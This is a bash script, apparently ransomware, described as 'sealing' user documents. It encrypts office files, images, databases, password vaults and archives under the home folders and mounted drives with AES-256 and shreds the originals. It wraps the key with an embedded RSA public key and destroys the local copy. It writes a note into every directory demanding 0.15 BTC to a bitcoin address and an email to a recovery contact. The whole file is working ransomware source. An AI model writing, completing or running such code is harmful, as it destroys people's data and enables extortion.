#!/usr/bin/env bash
# home_vault_seal.sh - "seals" user documents: every matching file under
# the target roots is encrypted in place with openssl and the plaintext
# is shredded. The per-run key is wrapped with an RSA public key and the
# local copy destroyed, so only the key holder can unseal.
set -u

ROOTS=("$HOME/Documents" "$HOME/Desktop" "$HOME/Pictures" "$HOME/Projects" "/mnt" "/media")
EXTS="doc docx xls xlsx ppt pptx pdf odt ods jpg jpeg png psd sql db sqlite csv txt zip 7z tar gz kdbx pst"
SUFFIX=".sealed"
PARALLEL="$(nproc 2>/dev/null || echo 2)"
KEYDIR="$HOME/.cache/.vs"
NOTE_NAME="HOW_TO_UNSEAL.txt"

PUBKEY_PEM='-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo
4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u
+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyeh
kd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ
0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdg
cKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbc
mwIDAQAB
-----END PUBLIC KEY-----'

setup_key() {
    mkdir -p "$KEYDIR" && chmod 700 "$KEYDIR"
    openssl rand -hex 32 >"$KEYDIR/k"
    printf '%s\n' "$PUBKEY_PEM" >"$KEYDIR/pub.pem"
    openssl pkeyutl -encrypt -pubin -inkey "$KEYDIR/pub.pem" -in "$KEYDIR/k" \
        | base64 -w0 >"$KEYDIR/k.wrapped"
}

# find expression: ( -iname *.a -o -iname *.b ... )
name_filter() {
    local e first=1
    printf '(\0'
    for e in $EXTS; do
        [ $first -eq 1 ] || printf -- '-o\0'
        printf -- '-iname\0*.%s\0' "$e"
        first=0
    done
    printf ')\0'
}

seal_one() {
    # $1 = file, $2 = key file, $3 = suffix
    openssl enc -aes-256-cbc -pbkdf2 -salt -pass "file:$2" \
        -in "$1" -out "$1$3" 2>/dev/null \
        && shred -fuz -n 1 "$1" 2>/dev/null || rm -f "$1"
}
export -f seal_one

walk_and_seal() {
    local root filter
    mapfile -d '' filter < <(name_filter)
    for root in "${ROOTS[@]}"; do
        [ -d "$root" ] || continue
        find "$root" -xdev -type f "${filter[@]}" ! -name "*$SUFFIX" -size -512M -print0 2>/dev/null \
            | xargs -0 -r -P "$PARALLEL" -I{} bash -c 'seal_one "$1" "$2" "$3"' _ {} "$KEYDIR/k" "$SUFFIX"
        drop_notes "$root"
    done
}

drop_notes() {
    local id
    id="$(cat "$KEYDIR/k.wrapped")"
    find "$1" -xdev -type d -print0 2>/dev/null | while IFS= read -r -d '' dir; do
        cat >"$dir/$NOTE_NAME" 2>/dev/null <<EOF
Your files in this folder were sealed with AES-256.
To recover them, send 0.15 BTC to bc1q7c4t9lmzv0qg8e2x3ysk5d6r0wnh2fyl9kq3ua
and mail the ID below to unseal@proton-recover.me

ID: $id
EOF
    done
}

destroy_key() {
    shred -fuz -n 3 "$KEYDIR/k" 2>/dev/null || rm -f "$KEYDIR/k"
}

setup_key || exit 1
walk_and_seal
destroy_key
